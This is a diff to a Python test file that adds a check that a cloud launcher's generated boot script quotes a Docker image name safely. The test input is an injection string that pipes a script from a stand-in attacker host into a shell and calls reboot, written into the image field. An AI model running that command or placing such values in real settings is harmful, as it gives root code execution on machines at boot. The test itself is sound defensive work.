@@ -13,6 +13,7 @@ import hashlib
 import json
 import os
 import re
+import shlex
 import signal
 import subprocess
 import sys
@@ -578,6 +579,13 @@ def test_an_image_in_ecr_is_pulled_after_a_login_with_the_instance_role() -> Non
     assert login < next(i for i, line in enumerate(lines) if line.startswith("docker run"))
     plain = cloud.user_data(cloud.CloudSettings(bucket="b", image="ghcr.io/me/t:1"), "r", "s3://b/j")
     assert "docker login" not in plain
+    odd = "ghcr.io/me/t:1; curl evil.example | sh $(reboot)"  # run as root at boot, as the shell read it
+    (run,) = [
+        line
+        for line in cloud.user_data(cloud.CloudSettings(image=odd), "r", "s3://b/j").splitlines()
+        if "docker" in line
+    ]
+    assert shlex.split(run)[-5:] == [odd, "vibrary", "trainer", "run-s3", "s3://b/j"]
 
 
 def test_bad_base_missing_credentials_or_region_are_said_plainly(
